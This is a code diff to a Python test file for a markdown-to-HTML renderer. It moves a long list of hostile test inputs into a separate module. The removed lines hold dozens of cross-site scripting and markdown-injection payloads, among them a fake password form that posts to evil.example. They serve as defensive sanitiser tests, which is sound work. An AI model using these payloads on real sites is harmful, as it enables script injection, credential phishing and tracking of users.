@@ -7,6 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from hostile_cards import HOSTILE
 from rl_hub.web.pages.addresses import Addresses
 from rl_hub.web.pages.markdown import render
 
@@ -66,76 +67,6 @@ def dangers(html):
                 yield f"{tag} {name}={value}"
         if tag == "input" and (attributes["type"], "disabled" in attributes) != ("checkbox", True):
             yield "input"
-
-
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='x'onerror='alert(1)'>",
-    "<img/src=x/onerror=alert(1)>",
-    "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)></object><embed src=x.swf>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href=https://evil.example/>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>body{background:url(https://evil.example)}</style>",
-    "<p style='background:url(https://evil.example);position:fixed;inset:0'>x</p>",
-    "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
-    "<input type=image src=https://evil.example/x.png>",
-    "<textarea></textarea><img src=x onerror=alert(1)>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<video src=x onloadstart=alert(1) autoplay poster=https://evil.example/x.png>",
-    "<video><source src=https://evil.example/x.mp4 onerror=alert(1)></video>",
-    "<audio src=//evil.example/x.mp3>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href=' java\nscript:alert(1)'>x</a>",
-    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
-    "<a href='\x01javascript:alert(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href=vbscript:x>x</a>",
-    "<a id=main name=form_token href=x>x</a>",
-    "<img name=body id=main src=x>",
-    "<img src=//evil.example/x.png>",
-    "<img src='/\\evil.example/x.png'>",
-    "<img src='\\\\evil.example\\x.png'>",
-    "<img src='ht\ntps://evil.example/x.png'>",
-    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
-    "<img srcset='https://evil.example/x.png 2x' src=x.png>",
-    "<img src=../../../settings/tokens>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt&#58;alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](  javascript:alert(1))",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    "![x](javascript:alert(1))",
-    "![x](https://evil.example/pixel.png)",
-    '!["onerror=alert(1) x](x.png "\' onerror=alert(1) x=\'")',
-    "[![x](https://evil.example/x.png)](javascript:alert(1))",
-    "[x](//evil.example)",
-    "[x](/\\evil.example)",
-    "[x](..%2F..%2F..%2Fsettings)",
-    "[x](https://[::1)",
-    '[x](#" onclick=alert(1))',
-    "# <img src=x onerror=alert(1)>",
-    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
-    "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```\n",
-    '```"><script>alert(1)</script>\nx\n```',
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo '<script>alert(1)</script>' ?>",
-    "<div><p>unclosed <b>and <a href=x>deep <script>alert(1)",
-    "</article></main></body><script>alert(1)</script>",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
-]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -209,7 +140,7 @@ def test_a_link_that_names_the_heading_by_its_full_id_arrives():
     ],
 )
 def test_links_lead_where_their_author_meant(target, address):
-    (tag, attributes), *_ = [each for each in Elements(shown(f"[x]({target})")).found if each[0] == "a"]
+    (_, attributes), *_ = [each for each in Elements(shown(f"[x]({target})")).found if each[0] == "a"]
     assert attributes["href"] == address
 
 
